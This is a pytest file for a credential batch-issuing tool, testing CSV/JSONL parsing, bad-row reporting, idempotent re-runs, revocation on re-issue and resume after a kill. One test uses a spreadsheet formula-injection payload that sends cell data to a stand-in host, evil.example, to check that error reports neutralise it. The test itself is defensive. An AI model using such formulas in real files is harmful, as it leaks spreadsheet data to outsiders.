"""Batch issuing: CSV/JSONL rows, bad rows reported, resume after kill -9, idempotence, re-issue."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

import anxinma
from anxinma import Status
from anxinma.batch import (
    POPULATION_COLUMNS,
    BatchOptions,
    BatchResult,
    read_input,
    run_batch,
    synthetic_population,
)
from anxinma.cli.batch import batch_command, population_command
from anxinma.cli.common import Cli
from anxinma.issuerdb import _V1, SCHEMA_VERSION, IssuerDB, credential_id
from anxinma.keys import private_key_pem
from anxinma.transport import from_text

from .pki import KEY_A

ROOT_DIR = Path(__file__).resolve().parents[1]
ENTERPRISES = (ROOT_DIR / "examples" / "enterprises.tsv").read_text(encoding="utf-8")
NOW = dt.datetime(2026, 11, 27, 10, 0, tzinfo=anxinma.CST)
AS_OF = NOW.date()


def population_csv(count: int = 300, *, seed: int = 1, bad_rate: float = 0.01) -> bytes:
    buffer = io.StringIO(newline="")
    writer = csv.DictWriter(buffer, fieldnames=POPULATION_COLUMNS, lineterminator="\n")
    writer.writeheader()
    writer.writerows(
        synthetic_population(ENTERPRISES, count=count, seed=seed, as_of=AS_OF, bad_rate=bad_rate)
    )
    return buffer.getvalue().encode()


def new_db(path: Path) -> IssuerDB:
    db = IssuerDB(path)
    db.new_list(0)
    return db


def batch(db: IssuerDB, data: bytes, out: Path, *, now: dt.datetime = NOW, **options: Any) -> BatchResult:
    opts = BatchOptions(out=out, **{"jobs": 2, "chunk": 40, **options})
    return run_batch(data, source=str(out.parent / "workers.csv"), key=KEY_A, db=db, options=opts, now=now)


def manifest(out: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in (out / "manifest.jsonl").read_text(encoding="utf-8").splitlines()]


def errors(out: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO((out / "errors.csv").read_text(encoding="utf-8"))))


def assert_manifest_is_the_db(db: IssuerDB, out: Path, batch_id: str) -> None:
    items = db.batch_items(batch_id)
    lines = manifest(out)
    assert [(e["row"], e["cred_id"], e["card_no"]) for e in lines] == [
        (i.row_no, i.cred_id, i.card_no) for i in items
    ]
    for entry, item in zip(lines, items, strict=True):
        message = from_text(entry["code"])
        assert message == item.message and credential_id(message) == item.cred_id
        assert entry["status"] == {"list_id": 0, "index": item.status_ref.index}  # type: ignore[union-attr]
        for path in entry["files"].values():
            assert (out / path).is_file()


# -- input ---------------------------------------------------------------------------------


def test_csv_columns_map_to_record_fields() -> None:
    header = "name,id_number,card_no,enterprise_uscc,region,services,identity_verified,background_result,"
    header += "background_checked_on,rating_average,rating_count,training_hours,photo\n"
    good = "王秀英,330203198503150020,NB2021000123,91330203MA2H123450,330203,"
    good += "housekeeping|育婴服务;elderly_care,是,clear,2020-10-12,4.8,37,64,me.png\n"
    rows, bad = read_input((header + good + "a,b\n").encode(), name="w.csv")
    assert bad[0].row == 3 and bad[0].field == "row" and "2 cells" in bad[0].reason
    from anxinma.batch import _csv_record

    record = _csv_record(rows[0].cells)  # type: ignore[arg-type]
    assert record["services"] == ["housekeeping", "infant_care", "elderly_care"]
    assert record["identity_verified"] is True and record["training_hours"] == 64
    assert record["background_check"] == {"result": "clear", "checked_on": "2020-10-12"}
    assert record["rating"] == {"average": 4.8, "count": 37} and "photo" not in record
    assert anxinma.parse_worker(record).name == "王秀英"


@pytest.mark.parametrize(
    ("header", "message"),
    [
        ("name,id_number,colour\n", "unknown column 'colour'"),
        ("name,name,id_number\n", "appears twice"),
        ("name,id_number\n", "required column 'card_no'"),
        ("", "empty file"),
    ],
)
def test_a_bad_header_stops_everything(header: str, message: str) -> None:
    with pytest.raises(anxinma.UsageError, match=message):
        read_input(header.encode(), name="w.csv")


def test_unknown_file_kind_is_refused() -> None:
    with pytest.raises(anxinma.UsageError, match=r"\.csv or \.jsonl"):
        read_input(b"{}", name="w.json")


# -- a batch of 300 ---------------------------------------------------------------------------


def test_a_batch_issues_good_rows_reports_bad_ones_and_is_idempotent(tmp_path: Path) -> None:
    data = population_csv(300)
    clean = population_csv(300, bad_rate=0)
    pairs = zip(data.splitlines()[1:], clean.splitlines()[1:], strict=True)
    spoiled = [n + 2 for n, (a, b) in enumerate(pairs) if a != b]
    assert len(spoiled) == 3
    out = tmp_path / "out"
    with new_db(tmp_path / "issuer.db") as db:
        result = batch(db, data, out, cards=True)
        assert result.rows == 300 and result.issued_before == 0
        assert result.issued_now + len(result.bad) == 300 and len(result.bad) == len(spoiled)
        assert [(e["row"], e["field"]) for e in errors(out)] == [(str(b.row), b.field) for b in result.bad]
        assert all(e["reason"] for e in errors(out))
        assert_manifest_is_the_db(db, out, result.batch_id)
        assert result.files_written == 2 * result.issued_now  # a QR image and a card each
        entries = manifest(out)
        assert len({e["status"]["index"] for e in entries}) == len(entries) == result.issued_now
        keyring = anxinma.Keyring([KEY_A.public_key()])
        verdicts = [anxinma.verify(e["code"], keyring, now=NOW) for e in entries]
        # A keyring never checks status: every code (each has a status entry) is status_not_checked
        # first (spec §10.4); beyond that, some are clean and some yellow for their documents.
        assert all(v.reasons[:1] == (anxinma.Reason.STATUS_NOT_CHECKED,) for v in verdicts)
        assert {v.reasons[1:] == () for v in verdicts} == {True, False}
        events = db._db.execute("SELECT COUNT(*) FROM events").fetchone()[0]
        again = batch(db, data, out, cards=True)
        assert (again.issued_now, again.issued_before, again.files_written) == (0, result.issued_now, 0)
        assert again.bad == result.bad
        assert db._db.execute("SELECT COUNT(*) FROM events").fetchone()[0] == events  # nothing re-signed
        assert manifest(out) == entries


def test_bad_rows_never_vanish_csv_and_jsonl(tmp_path: Path) -> None:
    record = {
        "name": "李桂芳",
        "id_number": "330203198503150020",
        "card_no": "NB1",
        "enterprise_uscc": "91330203MA2H123450",
        "region": "330203",
        "services": ["cleaning"],
        "identity_verified": True,
    }
    lines = [
        json.dumps(record, ensure_ascii=False),
        "",
        '{"name": "x", "name": "y"}',
        "not json",
        json.dumps({**record, "card_no": "NB2"}),  # the same person with a second card
        json.dumps({**record, "card_no": "nb3"}),
        json.dumps({**record, "id_number": "110101199003070011"}),  # card NB1 is someone else's
        json.dumps({**record, "card_no": "NB4", "id_number": "110101199003070011", "extra": 1}),
    ]
    data = ("\n".join(lines) + "\n").encode() + b'{"name": "\xff"}\n'
    out = tmp_path / "out"
    with new_db(tmp_path / "issuer.db") as db:
        opts = BatchOptions(out=out, jobs=1, image=None)
        result = run_batch(data, source="w.jsonl", key=KEY_A, db=db, options=opts, now=NOW)
    found = {(b.row, b.field) for b in result.bad}
    assert found == {
        (3, "name"), (4, "json"), (5, "id_number"), (6, "card_no"), (7, "card_no"), (8, "extra"), (9, "json"),
    }  # fmt: skip
    assert result.issued_now == 1 and len(manifest(out)) == 1
    reasons = {b.row: b.reason for b in result.bad}
    assert "already holds card NB1" in reasons[5] and "another person" in reasons[7]
    assert "not UTF-8" in reasons[9]


def test_errors_csv_neutralises_formulas_and_shows_unknown_field_names_short(tmp_path: Path) -> None:
    """issue 9 item 11: a JSONL key named =HYPERLINK(...) lands in errors.csv neither as a formula
    nor in full; every cell of errors.csv is safe to open in a spreadsheet."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open me")'
    record = json.loads(json.dumps(anxinma._demo.reference_record()))
    keys = [formula + "x" * 5000, "@SUM(1+1)\u202e", "+1", "-2+3", "\tcmd", "\r=1", " =1", "＝1+1"]
    lines = [json.dumps({**record, key: 1}, ensure_ascii=False) for key in keys]
    lines.append(json.dumps({**record, "card_no": "-3"}))  # a value that is not a plain number either
    out = tmp_path / "out"
    data = ("\n".join(lines) + "\n").encode()
    with new_db(tmp_path / "issuer.db") as db:
        opts = BatchOptions(out=out, jobs=1, image=None)
        result = run_batch(data, source="w.jsonl", key=KEY_A, db=db, options=opts, now=NOW)
    assert result.issued_now == 0 and len(result.bad) == len(lines)
    text = (out / "errors.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["row", "field", "reason"]
    fields = [r[1] for r in rows[1:]]
    assert fields[0] == "'" + formula[:37] + "..."  # apostrophe, then at most 40 characters
    assert fields[1] == "'@SUM(1+1)\\u202e"  # the override character escaped, not written
    assert fields[2:8] == ["'+1", "'-2+3", "\\tcmd", "\\r=1", "' =1", "'＝1+1"]  # TAB, CR escaped
    assert fields[8] == "card_no"
    for row in rows[1:]:
        for cell in row:
            assert cell[:1] not in "=+-@\t\r" or cell.lstrip("-").isdigit(), row
        assert all(len(cell) < 200 for cell in row)
    assert [r[0] for r in rows[1:]] == [str(n) for n in range(1, len(lines) + 1)]  # numbers stay data


def test_an_unknown_csv_column_is_named_short_and_escaped() -> None:
    """issue 9 item 11: an unknown column name is never echoed in full or with control characters."""
    header = "name,id_number,card_no," + "=HYPERLINK(1)\u202e" + "y" * 3000 + "\n"
    with pytest.raises(anxinma.UsageError) as caught:
        read_input(header.encode(), name="w.csv")
    message = str(caught.value)
    assert "unknown column '=HYPERLINK(1)\\u202e" + "y" * 18 + "...'" in message
    assert "\u202e" not in message and len(message) < 400


def test_reissue_revokes_the_old_credential_in_the_same_step(tmp_path: Path) -> None:
    data = population_csv(40, bad_rate=0)
    out = tmp_path / "out"
    with new_db(tmp_path / "issuer.db") as db:
        first = batch(db, data, out, image=None)
        header, row, *_ = data.splitlines(keepends=True)
        renewed = header + row.replace(b"2027-", b"2028-")  # a new health exam and insurance
        refused = batch(db, renewed, tmp_path / "out2", image=None)
        assert refused.issued_now == 0 and len(refused.bad) == 1 and "--replace" in refused.bad[0].reason
        with pytest.raises(anxinma.UsageError, match="--valid-days"):
            batch(db, renewed, tmp_path / "out2", image=None, valid_days=30)
        later = NOW + dt.timedelta(days=1)
        replaced = batch(db, renewed, tmp_path / "out3", image=None, replace=True, now=later)
        assert replaced.issued_now == 1 and not replaced.bad
        (new,) = manifest(tmp_path / "out3")
        versions = db.find(new["card_no"])
        assert [c.status for c in versions] == [Status.VALID, Status.INVALID]
        assert versions[0].cred_id == new["cred_id"]
        old = versions[1]
        assert db.status_list(0).get(old.status_ref.index) is Status.INVALID  # type: ignore[union-attr]
        note = db._db.execute("SELECT note FROM events WHERE cred_id=? AND action='revoke'", (old.cred_id,))
        assert note.fetchone()[0] == f"superseded by {new['cred_id']}"
        assert first.issued_now == 40


def test_population_is_deterministic_valid_and_marked_synthetic() -> None:
    rows = list(synthetic_population(ENTERPRISES, count=3000, seed=7, as_of=AS_OF, bad_rate=0))
    assert rows == list(synthetic_population(ENTERPRISES, count=3000, seed=7, as_of=AS_OF, bad_rate=0))
    assert rows != list(synthetic_population(ENTERPRISES, count=3000, seed=8, as_of=AS_OF, bad_rate=0))
    assert all(r["card_no"].startswith("SYNB") for r in rows)
    assert len({r["id_number"] for r in rows}) == len({r["card_no"] for r in rows}) == 3000
    minority = [r["name"] for r in rows if "·" in r["name"]]
    assert 20 <= len(minority) <= 120
    lapsed = sum(
        1 for r in rows if r["health_exam_valid_until"] and r["health_exam_valid_until"] < "2026-11-27"
    )
    assert 0.08 < lapsed / 3000 < 0.22
    firms = [r["enterprise_uscc"] for r in rows]
    assert firms.count("91330213MA209EAJ4B") > firms.count("91330211MA2BF8QTJ1")  # rank 1 > rank 99
    from anxinma.batch import _csv_record

    for row in rows[:400]:
        anxinma.parse_worker(_csv_record(row))


def test_population_command_writes_the_csv(tmp_path: Path) -> None:
    out = tmp_path / "w.csv"
    tsv = str(ROOT_DIR / "examples" / "enterprises.tsv")
    args = ["population", "--out", str(out), "--count", "50", "--seed", "3", "--enterprises", tsv]
    result = CliRunner().invoke(Cli(commands=[population_command]), args)
    assert result.exit_code == 0, result.output
    assert "50 SYNTHETIC" in result.output
    assert out.read_bytes().decode().splitlines()[0] == ",".join(POPULATION_COLUMNS)
    assert len(out.read_bytes().splitlines()) == 51


# -- migration ----------------------------------------------------------------------------------


def test_a_schema_1_database_is_migrated_keeping_its_records(tmp_path: Path) -> None:
    path = tmp_path / "old.db"
    con = sqlite3.connect(path)
    con.executescript(_V1)
    con.execute("INSERT INTO meta VALUES ('schema_version', '1')")
    con.execute("INSERT INTO status_lists VALUES (0, 131072)")
    con.execute("INSERT INTO credentials (cred_id, card_no, name, kid, list_id, idx, iat, exp)"
                " VALUES ('00aa', 'NB9', '张三', 'kid', 0, 5, 1, 9999999999)")  # fmt: skip
    con.commit()
    con.close()
    with IssuerDB(path) as db:
        assert db.schema_version == SCHEMA_VERSION and len(db.id_key) == 32
        (old,) = db.find("NB9")
        assert old.cred_id == "00aa" and old.status_ref == anxinma.StatusRef(list_id=0, index=5)
        (state,) = db.worker_states()
        assert state.card_no == "NB9" and state.enterprise_uscc is None and state.status is Status.VALID
        key = db.id_key
    with IssuerDB(path) as db:
        assert db.id_key == key  # the secret is made once


# -- crash safety: a real kill -9 ------------------------------------------------------------------

SCRIPT = (
    "import sys; from anxinma.cli import main; from anxinma.cli.batch import batch_command;"
    "main.add_command(batch_command); main(sys.argv[1:])"
)


def kill_in_the_middle(command: list[str], env: dict[str, str], db: Path) -> dict[str, bytes]:
    """Run ``command``, SIGKILL it once ``db`` holds 40 credentials; what was recorded then."""
    process = subprocess.Popen(command, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    watcher = sqlite3.connect(db, timeout=5)
    deadline, seen = time.monotonic() + 60, 0
    while time.monotonic() < deadline and seen < 40:
        time.sleep(0.005)
        try:
            seen = watcher.execute("SELECT COUNT(*) FROM credentials").fetchone()[0]
        except sqlite3.OperationalError:  # the schema is being created
            continue
    process.send_signal(signal.SIGKILL)
    process.wait(timeout=30)
    assert process.returncode == -signal.SIGKILL
    time.sleep(1.0)  # the worker processes notice within 0.5 s and end
    before = dict(watcher.execute("SELECT cred_id, message FROM credentials").fetchall())
    watcher.close()
    return before


def test_killed_with_sigkill_then_resumed(tmp_path: Path) -> None:
    workers = tmp_path / "workers.csv"
    workers.write_bytes(population_csv(300))
    key = tmp_path / "issuer.key.pem"
    key.write_bytes(private_key_pem(KEY_A))
    key.chmod(0o600)
    env = {**os.environ, "PYTHONPATH": str(ROOT_DIR / "src")}
    for attempt in range(3):  # a very fast machine might finish before the kill: try again afresh
        db_path, out = tmp_path / f"issuer{attempt}.db", tmp_path / f"out{attempt}"
        new_db(db_path).close()
        args = [str(workers), "--key", str(key), "--db", str(db_path), "--out", str(out)]
        args += ["--cards", "--jobs", "2", "--chunk-size", "8", "--now", NOW.isoformat()]
        command = [sys.executable, "-c", SCRIPT, "batch", *args]
        before = kill_in_the_middle(command, env, db_path)
        if len(before) < 297:
            break
    assert 40 <= len(before) < 297, "the kill must land in the middle of the batch"
    assert not (out / "manifest.jsonl").exists()

    rerun = subprocess.run(command, env=env, capture_output=True, timeout=300, check=False)
    assert rerun.returncode == 1, rerun.stderr  # 1: some rows are bad (and listed)
    assert b"issued now" in rerun.stderr
    with IssuerDB(db_path) as db:
        rows = db._db.execute("SELECT cred_id, message, card_no, idx, status FROM credentials").fetchall()
        issued = db._db.execute("SELECT COUNT(*) FROM events WHERE action='issue'").fetchone()[0]
        (batch_row,) = db._db.execute("SELECT batch_id FROM batches").fetchall()
        assert_manifest_is_the_db(db, out, batch_row[0])
    assert len(rows) == 297 == issued  # every good row once: nothing lost, nothing signed twice
    assert len({r[2] for r in rows}) == 297 and len({r[3] for r in rows}) == 297
    assert all(status == 0 for *_, status in rows)
    now_messages = {r[0]: r[1] for r in rows}
    assert all(now_messages[cred_id] == message for cred_id, message in before.items())
    assert len(errors(out)) == 3
    assert len(list((out / "qr").glob("*.svg"))) == len(list((out / "cards").glob("*.svg"))) == 297
    assert not list(out.rglob("*.tmp"))

    again = subprocess.run(command, env=env, capture_output=True, timeout=120, check=False)
    assert b"nothing new to issue" in again.stderr


def test_batch_command_one_line_errors(tmp_path: Path) -> None:
    cli = Cli(commands=[batch_command])
    (tmp_path / "w.txt").write_text("x")
    key = tmp_path / "k.pem"
    key.write_bytes(private_key_pem(KEY_A))
    key.chmod(0o600)
    new_db(tmp_path / "i.db").close()
    base = ["--key", str(key), "--db", str(tmp_path / "i.db"), "--out", str(tmp_path / "o")]
    result = CliRunner().invoke(cli, ["batch", str(tmp_path / "w.txt"), *base])
    assert result.exit_code == 2 and result.output.count("\n") == 1 and ".csv or .jsonl" in result.output
    (tmp_path / "w.csv").write_text("name,colour\n")
    result = CliRunner().invoke(cli, ["batch", str(tmp_path / "w.csv"), *base])
    assert result.exit_code == 2 and "unknown column 'colour'" in result.output
    (tmp_path / "w.csv").write_bytes(population_csv(5, bad_rate=0))
    result = CliRunner().invoke(cli, ["batch", str(tmp_path / "w.csv"), *base, "--list-id", "9"])
    assert result.exit_code == 2 and "no status list 9" in result.output
    result = CliRunner().invoke(
        cli, ["batch", str(tmp_path / "w.csv"), *base, "--format", "png", "--jobs", "1"]
    )
    assert result.exit_code == 0, result.output
    assert "5 issued now" in result.output
    assert len(list((tmp_path / "o" / "qr").glob("*.png"))) == 5


def test_example_population_script_matches_the_library(tmp_path: Path) -> None:
    out = tmp_path / "w.csv"
    script = ROOT_DIR / "examples" / "population.py"
    args = [
        sys.executable,
        str(script),
        "--out",
        str(out),
        "--count",
        "40",
        "--seed",
        "5",
        "--as-of",
        "2026-11-27",
    ]
    done = subprocess.run(args, capture_output=True, text=True, timeout=60, check=False)
    assert done.returncode == 0, done.stderr
    assert "40 SYNTHETIC" in done.stdout
    assert out.read_bytes() == population_csv(40, seed=5)


def test_photos_go_on_cards_only_and_a_bad_photo_is_a_bad_row(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from anxinma.card import qr_png, qr_symbol

    (tmp_path / "me.png").write_bytes(qr_png(qr_symbol("PHOTO")))
    (tmp_path / "bad.png").write_bytes(b"GIF89a not a png")
    header, *rows = population_csv(3, bad_rate=0).decode().splitlines()
    photos = ["me.png", "bad.png", "missing.png"]
    lines = [header + ",photo"] + [f"{row},{photo}" for row, photo in zip(rows, photos, strict=True)]
    (tmp_path / "workers.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    data = (tmp_path / "workers.csv").read_bytes()
    out = tmp_path / "out"
    with new_db(tmp_path / "issuer.db") as db:
        result = batch(db, data, out, cards=True, jobs=1)
        assert [(b.row, b.field) for b in result.bad] == [(3, "photo"), (4, "photo")]
        assert "PNG or JPEG" in result.bad[0].reason and "missing.png" in result.bad[1].reason
        (entry,) = manifest(out)
        card = (out / entry["files"]["card_svg"]).read_text(encoding="utf-8")
        assert "data:image/png;base64," in card
        code = from_text(entry["code"])
        assert b"me.png" not in code and len(code) < 238  # the photo is not in the credential
        without = batch(db, data, tmp_path / "out2", image=None)  # no cards: the photo column is ignored
        assert without.issued_now == 2 and not without.bad
        monkeypatch.setattr("importlib.util.find_spec", lambda name: None)
        with pytest.raises(anxinma.UsageError, match=r"anxinma\[png\]"):
            batch(db, data, tmp_path / "out3", cards=True, image="png")


def test_a_field_name_from_input_is_shown_short_in_every_message(tmp_path: Path) -> None:
    """issue 9 item 11: `anxinma issue` names an unknown or repeated JSON key escaped and cut to
    40 characters, on one line (a 5,000-character key is not echoed)."""
    from .test_cli import assert_one_error, run

    long_key = "=HYPERLINK(1)\u202e" + "k" * 5000
    unknown = tmp_path / "unknown.json"
    unknown.write_text(json.dumps({**anxinma._demo.reference_record(), long_key: 1}), "utf-8")
    twice = tmp_path / "twice.json"
    twice.write_text('{"' + long_key + '": 1, "' + long_key + '": 2}', "utf-8")
    shown = "=HYPERLINK(1)\\u202e" + "k" * 18 + "..."
    for path, what in ((unknown, "is not a worker record field"), (twice, "appears twice")):
        result = run("issue", path, "--key", tmp_path / "absent.pem")
        assert_one_error(result, 2, f"{shown}: {what}")
        assert len(result.stderr) < 200
